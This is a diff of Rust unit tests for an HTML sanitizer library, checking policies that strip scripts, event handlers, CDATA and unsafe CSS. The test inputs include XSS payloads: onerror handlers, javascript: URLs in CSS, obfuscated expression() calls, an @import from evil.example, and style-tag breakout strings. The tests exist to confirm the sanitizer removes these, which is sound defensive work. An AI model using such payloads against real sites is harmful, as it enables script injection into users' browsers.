+        policy.sanitize_html("<p>a</p><template><p>1</p><p>2</p><p>3</p></template><p>b</p>");
+    assert!(html.contains("<body><p>a</p><template></template></body>"));
+    let policy = AllowAllPolicy::builder().max_elements(3).build();
+    let html =
+        policy.sanitize_html("<p>a</p><template><p>1</p><p>2</p><p>3</p></template><p>b</p>");
+    assert!(html.contains("<body><p>a</p><template><p>1</p></template></body>"));
+}
+
+#[test]
+fn test_policy_strip_cdata() {
+    let contents = r#"<div><svg><script><![CDATA[alert(1)]]></script><style><![CDATA[</style><img src=x onerror=alert(1)>]]></style><text><![CDATA[<b>1 < 2</b>]]></text></svg><script>alert(2)</script></div>"#;
+
+    let policy = AllowAllPolicy::builder().strip_cdata(true).build();
+    let doc = Document::from(contents);
+    policy.sanitize_document(&doc);
+    let html = doc.select("body").inner_html();
+    assert_eq!(
+        html.as_ref(),
+        r#"<div><svg><script></script><style></style><text>&lt;b&gt;1 &lt; 2&lt;/b&gt;</text></svg><script>alert(2)</script></div>"#
+    );
+
+    let policy = AllowAllPolicy::builder().build();
+    let doc = Document::from(contents);
+    policy.sanitize_document(&doc);
+    let html = doc.select("body").inner_html();
+    assert!(html.contains("<svg><script>alert(1)</script>"));
+}
+
+#[test]
+fn test_policy_merge_ref() {
+    let preset = DenyAllPolicy::builder()
+        .exclude_elements(&["p", "a"])
+        .exclude_element_attrs("a", &["href"])
+        .remove_elements(&["script"])
+        .build();
+
+    let with_emphasis = DenyAllPolicy::builder()
+        .merge_ref(&preset)
+        .exclude_elements(&["em"])
+        .build();
+    let with_strong = DenyAllPolicy::builder()
+        .merge_ref(&preset)
+        .exclude_elements(&["strong"])
+        .build();
+
+    let contents = r#"<p><a href="/" class="x">Link</a> <em>a</em> <strong>b</strong><script>alert(1)</script></p>"#;
+    let html = with_emphasis.sanitize_html(contents);
+    assert!(html.contains(r#"<p><a href="/">Link</a> <em>a</em> b</p>"#));
+    let html = with_strong.sanitize_html(contents);
+    assert!(html.contains(r#"<p><a href="/">Link</a> a <strong>b</strong></p>"#));
+    let html = preset.sanitize_html(contents);
+    assert!(html.contains(r#"<p><a href="/">Link</a> a b</p>"#));
+
+    // the flags are merged like with `merge`, and like `PluginPolicyBuilder::merge_ref` does
+    let flags = DenyAllPolicy::builder()
+        .track_positions(true)
+        .allow_strip_structural(true)
+        .build();
+    let policy = DenyAllPolicy::builder()
+        .merge_ref(&preset)
+        .merge_ref(&flags)
+        .build();
+    let (html, report) = policy.sanitize_html_report(format!("<div>\n{contents}</div>"));
+    assert!(!html.contains("<body>"));
+    assert!(html.contains(r#"<p><a href="/">Link</a> a b</p>"#));
+    let script = report
+        .removed_elements
+        .iter()
+        .find(|e| e.name.as_ref() == "script")
+        .unwrap();
+    assert_eq!(script.line, Some(2));
+}
+
+#[test]
+fn test_policy_cap_attrs_per_element() {
+    let attrs: String = (0..50).map(|i| format!(r#" data-a{i}="{i}""#)).collect();
+    let contents = format!(r#"<div{attrs}><p class="x" id="y"></p></div>"#);
+
+    let policy = AllowAllPolicy::builder().cap_attrs_per_element(3).build();
+    let doc = Document::from(contents.as_str());
+    policy.sanitize_document(&doc);
+    let html = doc.select("body").inner_html();
+    assert_eq!(
+        html.as_ref(),
+        r#"<div data-a0="0" data-a1="1" data-a2="2"><p class="x" id="y"></p></div>"#
+    );
+
+    // The cap counts the attributes surviving the other rules, in document order.
+    let policy = DenyAllPolicy::builder()
+        .exclude_elements(&["div"])
+        .exclude_element_attrs("div", &["data-a49", "data-a7"])
+        .cap_attrs_per_element(1)
+        .sort_attrs(true)
+        .build();
+    let doc = Document::from(contents.as_str());
+    policy.sanitize_document(&doc);
+    let html = doc.select("body").inner_html();
+    assert_eq!(html.as_ref(), r#"<div data-a7="7"></div>"#);
+}
+
+#[test]
+fn test_policy_sanitize_fragment_in_context() {
+    let policy = DenyAllPolicy::builder()
+        .exclude_elements(&["tbody", "tr", "td", "li"])
+        .remove_elements(&["script"])
+        .build();
+
+    let html = policy.sanitize_fragment_in_context(
+        r#"<tr><td class="x">x<b>y</b><script>alert(1)</script>"#,
+        "table",
+    );
+    assert_eq!(html.as_ref(), "<tbody><tr><td>xy</td></tr></tbody>");
+    let html = policy.sanitize_fragment_in_context("<td>x</td>", "TR");
+    assert_eq!(html.as_ref(), "<td>x</td>");
+
+    // Parsed as a document, or in a context that isn't a table, the table parts are dropped.
+    let html = policy.sanitize_html("<tr><td>x");
+    assert!(html.contains("<body>x</body>"));
+    let html = policy.sanitize_fragment_in_context("<tr><td>x<li>a", "ul");
+    assert_eq!(html.as_ref(), "x<li>a</li>");
+}
+
+#[test]
+fn test_policy_max_total_text() {
+    let long_text = "lorem ipsum ".repeat(10_000);
+    let contents = format!("<div><p>Привет</p><p>{long_text}</p><p>tail</p></div>");
+
+    let policy = AllowAllPolicy::builder().max_total_text(20).build();
+    let doc = Document::from(contents.as_str());
+    policy.sanitize_document(&doc);
+    assert_eq!(doc.root().text().len(), 20);
+    let html = doc.select("body").inner_html();
+    assert_eq!(html.as_ref(), "<div><p>Привет</p><p>lorem ip</p></div>");
+
+    // The text node crossing the limit is cut at a character boundary.
+    let policy = AllowAllPolicy::builder().max_total_text(5).build();
+    let html = policy.sanitize_html(contents.as_str());
+    assert!(html.contains("<body><div><p>Пр</p></div></body>"));
+
+    // Text removed by the other rules doesn't count.
+    let policy = AllowAllPolicy::builder()
+        .remove_elements(&["p"])
+        .max_total_text(20)
+        .build();
+    let html = policy.sanitize_html(format!("{contents}<span>kept</span>"));
+    assert!(html.contains("<body><div></div><span>kept</span></body>"));
+
+    // The text of template contents counts in place, it doesn't get a budget of its own.
+    let policy = AllowAllPolicy::builder().max_total_text(3).build();
+    let html = policy.sanitize_html("<p>ab</p><template><p>1234567</p></template><p>cdef</p>");
+    assert!(html.contains("<body><p>ab</p><template><p>1</p></template></body>"));
+}
+
+#[test]
+fn test_policy_stripped_attrs() {
+    let policy = DenyAllPolicy::builder()
+        .exclude_elements(&["img"])
+        .exclude_element_attrs("img", &["src", "alt", "data-id"])
+        .strip_attr_prefixes(&["data-"])
+        .build();
+    let doc = Document::from(
+        r#"<img src="a.png" title="A" alt="An image" onerror="alert(1)" data-id="1">"#,
+    );
+    let img = doc.select("img").nodes()[0];
+    assert_eq!(
+        policy.stripped_attrs(&img),
+        vec!["title", "onerror", "data-id"]
+    );
+    // the node is not modified
+    assert_eq!(img.attrs().len(), 5);
+
+    policy.sanitize_document(&doc);
+    assert!(doc.html().contains(r#"<img src="a.png" alt="An image">"#));
+
+    let policy = DenyAllPolicy::builder().exclude_elements(&["img"]).build();
+    let doc = Document::from(r#"<img src="a.png" alt="An image">"#);
+    let img = doc.select("img").nodes()[0];
+    assert_eq!(policy.stripped_attrs(&img), vec!["src", "alt"]);
+}
+
+#[test]
+fn test_policy_extract_title() {
+    let contents = r#"<html><head><title> Release notes </title><title>Second</title></head><body><p onclick="x()">Body</p></body></html>"#;
+    // the title survives even though `head` contents are removed
+    let policy = AllowAllPolicy::builder()
+        .remove_elements(&["title"])
+        .exclude_attrs(&["onclick"])
+        .build();
+    let (title, body) = policy.extract_title(contents);
+    assert_eq!(title.as_deref(), Some("Release notes"));
+    assert_eq!(body.as_ref(), "<p>Body</p>");
+
+    let (title, body) = policy.extract_title("<p>No title</p>");
+    assert!(title.is_none());
+    assert_eq!(body.as_ref(), "<p>No title</p>");
+}
+
+#[test]
+fn test_policy_normalize_attr_whitespace() {
+    let contents = "<a class=\" nav\t\tlink \" rel=\"noopener\n noreferrer\" title=\"  Two  spaces \" href=\"/a\">A</a>";
+    let policy = AllowAllPolicy::builder()
+        .normalize_attr_whitespace(WHITESPACE_SEPARATED_ATTRS)
+        .build();
+    let doc = Document::from(contents);
+    policy.sanitize_document(&doc);
+    let a = doc.select("a");
+    assert_eq!(a.attr("class").unwrap().as_ref(), "nav link");
+    assert_eq!(a.attr("rel").unwrap().as_ref(), "noopener noreferrer");
+    // attributes that are not listed are left untouched
+    assert_eq!(a.attr("title").unwrap().as_ref(), "  Two  spaces ");
+}
+
+#[test]
+fn test_policy_normalize_boolean_attrs() {
+    let contents = r#"<form><input id="a" type="checkbox" checked="checked" disabled="false" value="on"><select><option selected="true">A</option></select><details open="">Details</details></form>"#;
+    let policy = DenyAllPolicy::builder()
+        .exclude_elements(&["form", "input", "select", "option", "details"])
+        .exclude_attrs(&["id", "type", "checked", "disabled", "value", "selected"])
+        .normalize_boolean_attrs(BOOLEAN_ATTRS)
+        .build();
+    let doc = Document::from(contents);
+    policy.sanitize_document(&doc);
+    let input = doc.select("input");
+    assert_eq!(input.attr("checked").unwrap().as_ref(), "");
+    // a boolean attribute is true whatever its value, so it is kept
+    assert_eq!(input.attr("disabled").unwrap().as_ref(), "");
+    // other attributes are left untouched
+    assert_eq!(input.attr("value").unwrap().as_ref(), "on");
+    assert_eq!(doc.select("option").attr("selected").unwrap().as_ref(), "");
+    // attributes removed by the policy are not added back
+    assert!(!doc.select("details").has_attr("open"));
+}
+
+#[test]
+fn test_policy_sanitize_selection_reports() {
+    let contents = r#"<div>
+        <section id="clean"><p>Clean</p></section>
+        <section id="dirty"><p onclick="x()">Dirty</p><script>alert(1)</script><iframe></iframe></section>
+    </div>"#;
+    let policy = AllowAllPolicy::builder()
+        .remove_elements(&["script", "iframe"])
+        .exclude_attrs(&["onclick"])
+        .build();
+    let doc = Document::from(contents);
+    let reports = policy.sanitize_selection_reports(&doc.select("section"));
+    assert_eq!(reports.len(), 2);
+    assert!(!reports[0].is_changed());
+    assert_eq!(reports[1].removed_elements.len(), 2);
+    assert_eq!(reports[1].removed_attrs, 1);
+    assert!(!doc.select("script, iframe, [onclick]").exists());
+}
+
+#[test]
+fn test_policy_preserve_comments_exact() {
+    let contents = "<div><!--integrity:sha256-abc--><p>Te<!-- tracking -->xt</p><!-- integrity:sha256-abc --></div>";
+
+    // comments are kept by default
+    let policy = AllowAllPolicy::builder()
+        .remove_elements(&["script"])
+        .build();
+    let doc = Document::from(contents);
+    policy.sanitize_document(&doc);
+    assert_eq!(doc.select("div").inner_html().matches("<!--").count(), 3);
+
+    let policy = AllowAllPolicy::builder()
+        .strip_comments()
+        .preserve_comments_exact(&["integrity:sha256-abc"])
+        .build();
+    let doc = Document::from(contents);
+    policy.sanitize_document(&doc);
+    // only the exact match survives, the padded copy is removed
+    assert_eq!(
+        doc.select("div").inner_html().as_ref(),
+        "<!--integrity:sha256-abc--><p>Text</p>"
+    );
+    assert_eq!(doc.select("p").nodes()[0].children().len(), 1);
+}
+
+#[test]
+fn test_policy_strip_all_attrs_from() {
+    let contents = r#"<div class="embed"><iframe src="https://example.com" allow="camera" class="frame"></iframe><object data="/x.swf" type="application/x-shockwave-flash"></object></div>"#;
+    let policy = AllowAllPolicy::builder()
+        .strip_all_attrs_from(&["iframe", "object"])
+        .exclude_attrs(&["style"])
+        .build();
+    let doc = Document::from(contents);
+    policy.sanitize_document(&doc);
+    assert!(doc.select("div.embed").exists());
+    assert_eq!(doc.select("iframe").nodes()[0].attrs().len(), 0);
+    assert_eq!(doc.select("object").nodes()[0].attrs().len(), 0);
+}
+
+#[test]
+fn test_policy_sanitize_html_with_options() {
+    let contents = "<!DOCTYPE html><html><head><title>T</title></head><body><div><p onclick=\"x()\">Text</p></div></body></html>";
+    let policy = AllowAllPolicy::builder()
+        .exclude_attrs(&["onclick"])
+        .build();
+
+    let html = policy.sanitize_html_with(contents, SerializeOptions::default());
+    assert_eq!(html, policy.sanitize_html(contents));
+
+    let options = SerializeOptions {
+        include_doctype: false,
+        ..Default::default()
+    };
+    let html = policy.sanitize_html_with(contents, options);
+    assert!(html.starts_with("<html>"));
+
+    let options = SerializeOptions {
+        body_only: true,
+        ..Default::default()
+    };
+    let html = policy.sanitize_html_with(contents, options);
+    assert_eq!(html.as_ref(), "<div><p>Text</p></div>");
+
+    let options = SerializeOptions {
+        body_only: true,
+        pretty: true,
+        ..Default::default()
+    };
+    let html = policy.sanitize_html_with(contents, options);
+    assert_eq!(html.as_ref(), "<div>\n  <p>Text</p>\n</div>\n");
+}
+
+#[test]
+fn test_policy_sanitize_document_timeout() {
+    let contents = "<div><p onclick=\"x()\">Text</p><script>alert(1)</script></div>".repeat(100);
+    let policy = AllowAllPolicy::builder()
+        .remove_elements(&["script"])
+        .exclude_attrs(&["onclick"])
+        .build();
+
+    let doc = Document::from(contents.as_str());
+    assert!(policy
+        .sanitize_document_timeout(&doc, Duration::from_secs(60))
+        .is_ok());
+    assert!(!doc.select("script, [onclick]").exists());
+
+    let doc = Document::from(contents.as_str());
+    let err = policy
+        .sanitize_document_timeout(&doc, Duration::ZERO)
+        .unwrap_err();
+    assert_eq!(err.timeout, Duration::ZERO);
+    // the document was left unsanitized
+    assert!(doc.select("script").exists());
+}
+
+#[test]
+fn test_policy_remove_selector() {
+    let contents = r#"<div class="ad-block"><p>Buy now</p></div><div class="content"><p>Text</p><span class="ad-block">Ad</span></div>"#;
+    let policy = AllowAllPolicy::builder()
+        .remove_selector("div.ad-block")
+        .unwrap()
+        .exclude_selector(".content > span")
+        .unwrap()
+        .build();
+    let doc = Document::from(contents);
+    policy.sanitize_document(&doc);
+    assert!(!doc.select("div.ad-block").exists());
+    assert!(!doc.html().contains("Buy now"));
+    // the span is only unwrapped
+    assert!(!doc.select("span").exists());
+    assert!(doc.select("div.content:has-text('Ad')").exists());
+
+    let err = AllowAllPolicy::builder()
+        .remove_selector("div[")
+        .err()
+        .unwrap();
+    assert_eq!(err.selector, "div[");
+}
+
+#[test]
+fn test_policy_limit_elements() {
+    let contents = r#"<div><img src="/1.png"><p><img src="/2.png"><img src="/3.png"></p><img src="/4.png"><figure><img src="/5.png"><figcaption>Five</figcaption></figure></div>"#;
+    let policy = AllowAllPolicy::builder()
+        .limit_elements(&[("img", 3), ("figure", 0)])
+        .build();
+    let doc = Document::from(contents);
+    let report = policy.sanitize_document_report(&doc);
+    let srcs: Vec<String> = doc
+        .select("img")
+        .iter()
+        .map(|img| img.attr("src").unwrap().to_string())
+        .collect();
+    assert_eq!(srcs, ["/1.png", "/2.png", "/3.png"]);
+    // over-limit elements are removed with their children
+    assert!(!doc.html().contains("Five"));
+    assert_eq!(report.removed_elements.len(), 2);
+}
+
+#[test]
+fn test_policy_with_finalizer() {
+    let contents = r#"<html><body><h1 onclick="x()">Title</h1><p>Text</p></body></html>"#;
+    let policy = AllowAllPolicy::builder()
+        .exclude_attrs(&["onclick"])
+        .with_finalizer(|node| {
+            let Some(body) = node.find(&["html", "body"]).into_iter().next() else {
+                return;
+            };
+            let section = body.tree.new_element("section");
+            // the finalizer's changes are not sanitized
+            section.set_attr("onclick", "y()");
+            for child in body.children() {
+                section.append_child(&child);
+            }
+            body.append_child(&section);
+        })
+        .build();
+    let doc = Document::from(contents);
+    policy.sanitize_document(&doc);
+    assert_eq!(
+        doc.select("body").inner_html().as_ref(),
+        r#"<section onclick="y()"><h1>Title</h1><p>Text</p></section>"#
+    );
+}
+
+#[test]
+fn test_policy_sanitize_style_contents() {
+    let contents = r#"<html><head><style>@import url("https://evil.example/x.css");
+/* comment */ p { color: red; background: url(javascript:alert(1)) }
+div { width: expr/**/ession(alert(2)); margin: 0 }
+a { background-image: url("\6a avascript:alert(3)") }</style></head><body><p>Text</p></body></html>"#;
+    let policy = AllowAllPolicy::builder()
+        .sanitize_style_contents(true)
+        .build();
+    let doc = Document::from(contents);
+    policy.sanitize_document(&doc);
+    let css = doc.select("style").text().to_string();
+    assert!(css.contains("color: red;"));
+    assert!(css.contains("margin: 0"));
+    for pattern in ["@import", "javascript", "ession", "comment", "\\6a"] {
+        assert!(!css.contains(pattern), "`{pattern}` must be removed");
+    }
+}
+
+#[test]
+fn test_policy_sanitize_style_contents_reparse() {
+    let policy = AllowAllPolicy::builder()
+        .sanitize_style_contents(true)
+        .build();
+    for contents in [
+        "<style>a{}</sty/**/le><img src=x onerror=alert(1)></style>",
+        "<style>a{color:red}</sty/**/le><img src=x onerror=alert(1)>{}</style>",
+        "<style>a{}p</STY/**/LE><img src=x onerror=alert(1)>{color:red}</style>",
+    ] {
+        let html = policy.sanitize_html(contents);
+        let reparsed = Document::from(html.clone());
+        assert!(!reparsed.select("img").exists(), "{contents} -> {html}");
+        assert_eq!(reparsed.select("style").length(), 1);
+        // sanitizing the output again doesn't change it
+        assert_eq!(policy.sanitize_html(html.clone()), html);
+    }
+}
+
+#[test]
+fn test_policy_sanitize_document_dry_run() {
+    let contents =
+        r#"<div><p onclick="x()">Text</p><script>alert(1)</script><span>Span</span></div>"#;
+    let policy = AllowAllPolicy::builder()
+        .remove_elements(&["script"])
+        .exclude_elements(&["span"])
+        .exclude_attrs(&["onclick"])
+        .build();
+    let doc = Document::from(contents);
+    let html_before = doc.html();
+    let report = policy.sanitize_document_dry_run(&doc);
+    assert_eq!(doc.html(), html_before);
+
+    assert_eq!(report.removed_elements.len(), 2);
+    assert_eq!(report.removed_attrs, 1);
+    // the report is the same as for the real run
+    let real_report = policy.sanitize_document_report(&doc);
+    assert_eq!(
+        report.removed_elements.len(),
+        real_report.removed_elements.len()
+    );
+    assert_eq!(report.removed_attrs, real_report.removed_attrs);
+}
+
+#[test]
+fn test_policy_sort_attrs() {
+    let policy = AllowAllPolicy::builder()
+        .exclude_attrs(&["onclick"])
+        .sort_attrs(true)
+        .build();
+    let first = policy.sanitize_html(r#"<a title="T" onclick="x()" href="/" class="c">Link</a>"#);
+    let second = policy.sanitize_html(r#"<a class="c" href="/" title="T">Link</a>"#);
+    assert!(first.contains(r#"<a class="c" href="/" title="T">Link</a>"#));
+    assert_eq!(first, second);
+}
+
+#[test]
+fn test_policy_sanitize_subtree() {
+    let contents = r#"<div id="before"><b onclick="a()">Before</b></div><div id="target" onclick="b()"><b onclick="c()">Inside</b><script>alert(1)</script></div><div id="after"><b onclick="d()">After</b></div>"#;
+    let policy = AllowAllPolicy::builder()
+        .exclude_elements(&["b", "div"])
+        .exclude_attrs(&["onclick"])
+        .remove_elements(&["script"])
+        .build();
+    let doc = Document::from(contents);
+    let target = doc.select("#target").nodes()[0];
+    policy.sanitize_subtree(&target);
+
+    // the node itself is kept as is, even though `div` and `onclick` are excluded
+    assert!(doc.select(r#"div#target[onclick="b()"]"#).exists());
+    assert_eq!(doc.select("#target").inner_html().as_ref(), "Inside");
+    // siblings are untouched
+    assert!(doc.select(r#"#before > b[onclick="a()"]"#).exists());
+    assert!(doc.select(r#"#after > b[onclick="d()"]"#).exists());
+}
+
+#[test]
+fn test_policy_learn_from() {
+    let sample = r#"<article><h2>Title</h2><p class="lead">Text <a href="/" title="Home">link</a></p><img src="/a.png" alt="A"></article>"#;
+    let policy = DenyAllPolicy::learn_from(sample);
+    let contents = r#"<article id="x"><h2 class="t">Other</h2><p class="lead" style="color:red"><a href="/b" onclick="x()">B</a><b>Bold</b></p><img src="/b.png" alt="B" onerror="y()"><table><tr><td>Cell</td></tr></table></article>"#;
+    let doc = Document::from(contents);
+    policy.sanitize_document(&doc);
+    assert_eq!(
+        doc.select("body").inner_html().as_ref(),
+        r#"<article><h2>Other</h2><p class="lead"><a href="/b">B</a>Bold</p><img src="/b.png" alt="B">Cell</article>"#
+    );
+}
+
+#[test]
+fn test_policy_unwrap_anchors_with_href() {
+    let contents = r#"<p>See <a href="https://example.com/docs">the docs</a>, <a href="">empty</a> and <a name="x">anchor</a>.</p>"#;
+    let policy = DenyAllPolicy::builder()
+        .exclude_elements(&["p"])
+        .unwrap_anchors_with_href(true)
+        .build();
+    let doc = Document::from(contents);
+    policy.sanitize_document(&doc);
+    assert_eq!(
+        doc.select("p").inner_html().as_ref(),
+        "See the docs (https://example.com/docs), empty and anchor."
+    );
+}
+
+#[test]
+fn test_policy_merge_rules_from() {
+    let formatting = AllowAllPolicy::builder()
+        .exclude_elements(&["b", "i"])
+        .remove_elements(&["script"])
+        .build();
+    // the same list keeps only formatting elements under the restrictive directive
+    let policy = DenyAllPolicy::builder()
+        .exclude_elements(&["p"])
+        .merge_rules_from(formatting.clone())
+        .build();
+    let contents =
+        "<div><p><b>Bold</b> <i>Italic</i> <u>Under</u></p><script>alert(1)</script></div>";
+    let html = policy.sanitize_html(contents);
+    assert!(html.contains("<p><b>Bold</b> <i>Italic</i> Under</p>"));
+    assert!(!html.contains("alert"));
+
+    let html = formatting.sanitize_html(contents);
+    assert!(html.contains("<p>Bold Italic <u>Under</u></p>"));
+}
+
+#[test]
+fn test_policy_strip_all_attrs_from_inverted() {
+    let contents =
+        r#"<iframe src="/frame" srcdoc="<script>alert(1)</script>" onload="alert(2)"></iframe>"#;
+    let policy = AllowAllPolicy::builder()
+        .exclude_elements(&["iframe"])
+        .strip_all_attrs_from(&["iframe"])
+        .build();
+
+    // the kept iframe has no attributes, rather than all of them
+    let inverted = policy.clone().inverted();
+    let html = inverted.sanitize_html(contents);
+    assert!(html.contains("<body><iframe></iframe></body>"));
+
+    let policy = DenyAllPolicy::builder().merge_rules_from(policy).build();
+    let html = policy.sanitize_html(contents);
+    assert!(html.contains("<body><iframe></iframe></body>"));
+}
+
+#[test]
+fn test_restrictive_policy_unwrap_in_head_is_idempotent() {
+    let policy = DenyAllPolicy::builder().build();
+    let contents =
+        "<html><head><style>  a < b</style><title>T</title></head><body><p>Text</p></body></html>";
+    let once = policy.sanitize_html(contents);
+    assert_eq!(
+        once.as_ref(),
+        "<html><head>  </head><body>a &lt; bTText</body></html>"
+    );
+    assert_eq!(policy.sanitize_html(once.clone()), once);
+}
+
+#[test]
+fn test_policy_promote_attr() {
+    let policy = DenyAllPolicy::builder()
+        .exclude_elements(&["img", "p"])
+        .exclude_element_attrs("img", &["src", "alt"])
+        .promote_attr("img", "data-src", "src")
+        .build();
+    let contents = r#"<p>
+        <img id="lazy" data-src="/lazy.png" src="" alt="Lazy">
+        <img id="plain" data-src="/lazy.png" alt="Plain">
+        <img id="loaded" data-src="/lazy.png" src="/loaded.png" alt="Loaded">
+    </p>"#;
+    let html = policy.sanitize_html(contents);
+    // an existing `src`, even an empty one, is not overwritten
+    assert!(html.contains(r#"<img src="" alt="Lazy">"#));
+    assert!(html.contains(r#"<img alt="Plain" src="/lazy.png">"#));
+    assert!(html.contains(r#"<img src="/loaded.png" alt="Loaded">"#));
+    assert!(!html.contains("data-src"));
+}
+
+#[test]
+fn test_policy_promote_attr_report() {
+    let policy = AllowAllPolicy::builder()
+        .promote_attr("img", "data-src", "src")
+        .build();
+    let (html, report) = policy.sanitize_html_report(r#"<img data-src="x.png">"#);
+    assert!(html.contains(r#"<img data-src="x.png" src="x.png">"#));
+    assert_eq!(report.removed_attrs, 0);
+    assert_eq!(report.modified_attrs, 1);
+
+    let doc = Document::from(r#"<img data-src="x.png">"#);
+    assert!(policy.sanitize_document_changed(&doc));
+
+    let policy = DenyAllPolicy::builder()
+        .exclude_elements(&["img"])
+        .exclude_element_attrs("img", &["src"])
+        .promote_attr("img", "data-src", "src")
+        .build();
+    let (html, report) = policy.sanitize_html_report(r#"<img data-src="x.png" alt="X">"#);
+    assert!(html.contains(r#"<img src="x.png">"#));
+    assert_eq!(report.removed_attrs, 2);
+    assert_eq!(report.modified_attrs, 1);
+}
+
+#[test]
+fn test_policy_from_static() {
+    use html5ever::{local_name, LocalName};
+
+    const ALLOWED: &[LocalName] = &[local_name!("p"), local_name!("b")];
+
+    let contents = r#"<div><p class="x"><b>Bold</b> <i>Italic</i></p></div>"#;
+    let policy = DenyAllPolicy::from_static(ALLOWED);
+    let built = DenyAllPolicy::builder()
+        .exclude_elements(&["p", "b"])
+        .build();
+    assert_eq!(
+        policy.sanitize_html(contents),
+        built.sanitize_html(contents)
+    );
+
+    // merging copies the static elements into the builder
+    let policy = DenyAllPolicy::builder()
+        .merge(DenyAllPolicy::from_static(ALLOWED))
+        .exclude_elements(&["i"])
+        .build();
+    let html = policy.sanitize_html(contents);
+    assert!(html.contains("<p><b>Bold</b> <i>Italic</i></p>"));
+}
+
+#[test]
+fn test_policy_sanitize_split() {
+    let policy = DenyAllPolicy::builder()
+        .exclude_elements(&["title", "meta", "p"])
+        .exclude_element_attrs("meta", &["name", "content"])
+        .remove_elements(&["script"])
+        .build();
+    let contents = r#"<html><head><title>Title</title><meta name="author" content="me" onload="x()"><script>alert(1)</script></head>
+        <body><p onclick="x()">Text</p><script>alert(2)</script></body></html>"#;
+    let (head, body) = policy.sanitize_split(contents);
+    assert_eq!(
+        head.as_ref(),
+        r#"<title>Title</title><meta name="author" content="me">"#
+    );
+    assert_eq!(body.trim(), "<p>Text</p>");
+
+    // content which doesn't belong in `head` is moved to `body` by the parser
+    let (head, body) = policy
+        .sanitize_split(r#"<head><title>T</title>text<meta name="a"></head><body><p>B</p></body>"#);
+    assert_eq!(head.as_ref(), "<title>T</title>");
+    assert_eq!(body.as_ref(), r#"text<meta name="a"><p>B</p>"#);
+}
+
+#[test]
+fn test_policy_insert_space_on_unwrap() {
+    let contents = "<div><p>foo</p><p>bar</p><p>baz.</p><p> qux</p>end<b>, </b>x<i>y</i></div>";
+    let policy = AllowAllPolicy::builder()
+        .exclude_elements(&["div", "p", "b", "i"])
+        .insert_space_on_unwrap(true)
+        .build();
+    assert_eq!(
+        policy.sanitize_to_text(contents),
+        "foo bar baz. qux end, x y"
+    );
+
+    let policy = DenyAllPolicy::builder()
+        .insert_space_on_unwrap(true)
+        .build();
+    assert_eq!(
+        policy.sanitize_to_text(contents),
+        "foo bar baz. qux end, x y"
+    );
+
+    let policy = DenyAllPolicy::builder().build();
+    assert_eq!(policy.sanitize_to_text(contents), "foobarbaz. quxend, xy");
+}
+
+#[test]
+fn test_policy_collapse_nested() {
+    let policy = AllowAllPolicy::builder()
+        .collapse_nested(&["div", "span"])
+        .build();
+    let contents = r#"<div class="a">
+        <div class="b"><div class="c"><p>Content</p></div></div>
+    </div>
+    <div><div>One</div><div>Two</div></div>
+    <span><span>Text</span> tail</span>
+    <section><section><p>Kept</p></section></section>"#;
+    let doc = Document::from(contents);
+    policy.sanitize_document(&doc);
+    // the innermost element of a chain is kept with its attributes
+    assert!(doc
+        .select("body")
+        .inner_html()
+        .starts_with(r#"<div class="c"><p>Content</p></div>"#));
+    assert_eq!(doc.select("div").length(), 4);
+    assert_eq!(doc.select("span").length(), 2);
+    assert_eq!(doc.select("section").length(), 2);
+}